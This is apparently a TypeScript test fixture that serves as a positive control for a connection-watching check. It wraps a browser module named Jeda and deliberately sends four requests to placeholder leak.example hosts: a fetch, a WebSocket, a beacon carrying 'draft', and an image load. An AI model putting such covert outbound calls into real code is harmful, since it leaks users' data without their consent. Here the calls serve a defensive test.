/** The positive control of the connection watch: Jeda as it is, but it tells on the person in four ways. */
export * from '../../src/browser/index.ts';

if (location.protocol.endsWith('-extension:')) {
  void fetch('https://fetch.leak.example/').catch(() => undefined);
  new WebSocket('wss://socket.leak.example/');
} else {
  navigator.sendBeacon('https://beacon.leak.example/', 'draft');
  new Image().src = 'https://image.leak.example/';
}
